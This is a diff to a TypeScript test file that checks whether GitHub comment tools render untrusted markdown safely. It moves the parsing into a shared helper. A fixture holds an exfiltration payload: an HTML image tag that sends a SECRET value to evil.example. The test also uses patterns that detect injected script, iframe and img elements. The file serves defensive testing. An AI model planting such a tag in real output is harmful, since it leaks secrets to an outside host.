@@ -10,8 +10,7 @@
  */
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { micromark } from 'micromark';
-import { gfm, gfmHtml } from 'micromark-extension-gfm';
+import { rendered } from './rendered-markdown.js';
 import { commentText } from '../../src/github-tools/text.js';
 
 const IMG = '<img src="https://evil.example/?d=SECRET">';
@@ -36,17 +35,10 @@ const ATTACKS = [
 ];
 
 function live(markdown: string): { elements: string[]; mentions: string[]; links: string[] } {
-  const html = micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
+  const { html, mentions } = rendered(markdown);
   const elements = (html.match(/<(img|details|summary|script|iframe|!--)\b[^>]*>?/gi) ?? []).filter((e) => !e.startsWith('<code'));
   const links = (html.match(/href="[^"]*"/g) ?? []).filter((h) => !/^href="(https?:|mailto:|#)/.test(h));
-  const text = html
-    .replace(/<code>[\s\S]*?<\/code>/g, ' ')
-    .replace(/<[^>]+>/g, ' ')
-    .replace(/&#(\d+);/g, (_m, n: string) => String.fromCodePoint(Number(n)))
-    .replace(/&#x([0-9a-f]+);/gi, (_m, n: string) => String.fromCodePoint(parseInt(n, 16)))
-    .replace(/&commat;/g, '@')
-    .replace(/&amp;/g, '&');
-  return { elements, mentions: text.match(/(?<![\w\u200b])@[\w-]+(?:\/[\w-]+)?/g) ?? [], links };
+  return { elements, mentions, links };
 }
 
 describe('the comment tools render untrusted text on a real parser', () => {
